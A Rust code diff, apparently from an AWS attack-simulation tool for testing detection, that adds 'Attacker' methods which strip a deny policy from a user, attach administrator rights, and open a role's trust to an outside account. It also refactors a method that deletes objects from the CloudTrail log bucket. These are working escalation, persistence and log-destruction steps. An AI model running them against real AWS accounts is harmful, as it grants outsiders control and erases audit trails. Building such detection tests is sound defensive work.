@@ -10,7 +10,7 @@ use aws_sdk_s3::types::{
 use serde_json::{Value, json};
 
 use super::{
-    ACCOUNT, EVERYTHING, LOG_BUCKET, REGION, TRAIL_ARN,
+    ACCOUNT, ADMINISTRATOR, DENY_POLICY_ARN, EVERYTHING, LOG_BUCKET, REGION, TRAIL_ARN,
     archive::{account_only, expiring_after},
     attacker::Attacker,
     error::{Context, Error, Result},
@@ -104,20 +104,16 @@ impl Attacker {
         let delete = Delete::builder().objects(object.context("an object")?);
         let call = self.aws.s3.delete_objects().bucket(LOG_BUCKET);
         let call = call.delete(delete.build().context("a deletion")?);
-        let mut event = self.made(
+        let event = self.made(
             "s3:DeleteObjects",
             of_bucket("delete", &json!({})),
             call.send().await,
         )?;
         let bucket = format!("arn:aws:s3:::{LOG_BUCKET}");
-        let detail = &mut event.json["detail"];
-        detail["eventCategory"] = "Data".into();
-        detail["managementEvent"] = false.into();
-        detail["resources"] = json!([
+        Ok(event.of_data(json!([
             {"type": "AWS::S3::Object", "ARNPrefix": format!("{bucket}/")},
             {"type": "AWS::S3::Bucket", "accountId": ACCOUNT, "ARN": bucket},
-        ]);
-        Ok(event)
+        ])))
     }
 
     /// Has the trail's key deleted in a week.
@@ -180,6 +176,42 @@ impl Attacker {
             "iam:PutRolePolicy",
             json!({"roleName": role, "policyName": "disarmed", "policyDocument": policy}),
             call.send().await,
+        )
+    }
+
+    /// Takes the denial off a user.
+    pub(crate) async fn detach_denial(&self, user: &str) -> Result<Event> {
+        let call = self.aws.iam.detach_user_policy().user_name(user);
+        self.made(
+            "iam:DetachUserPolicy",
+            json!({"userName": user, "policyArn": DENY_POLICY_ARN}),
+            call.policy_arn(DENY_POLICY_ARN).send().await,
+        )
+    }
+
+    /// Gives a user all rights.
+    pub(crate) async fn make_administrator(&self, user: &str) -> Result<Event> {
+        let call = self.aws.iam.attach_user_policy().user_name(user);
+        self.made(
+            "iam:AttachUserPolicy",
+            json!({"userName": user, "policyArn": ADMINISTRATOR}),
+            call.policy_arn(ADMINISTRATOR).send().await,
+        )
+    }
+
+    /// Opens a role's trust to another account.
+    pub(crate) async fn open_trust(&self, role: &str) -> Result<Event> {
+        let trust = json!({"Version": "2012-10-17", "Statement": [{
+            "Effect": "Allow",
+            "Principal": {"AWS": ["arn:aws:iam::999988887777:root", format!("arn:aws:iam::{ACCOUNT}:root")]},
+            "Action": "sts:AssumeRole",
+        }]})
+        .to_string();
+        let call = self.aws.iam.update_assume_role_policy().role_name(role);
+        self.made(
+            "iam:UpdateAssumeRolePolicy",
+            json!({"roleName": role, "policyDocument": trust}),
+            call.policy_document(&trust).send().await,
         )
     }
 
